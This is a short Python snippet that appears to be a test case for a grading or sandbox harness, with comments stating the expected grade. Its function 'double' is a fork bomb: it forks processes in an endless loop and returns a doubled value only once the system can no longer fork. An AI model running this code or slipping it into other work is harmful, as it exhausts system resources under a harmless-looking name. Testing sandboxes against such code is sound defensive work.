# Children that have children.
# expects: graded 1 or graded 2 or graded 3
# %% double
import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            return 2 * x
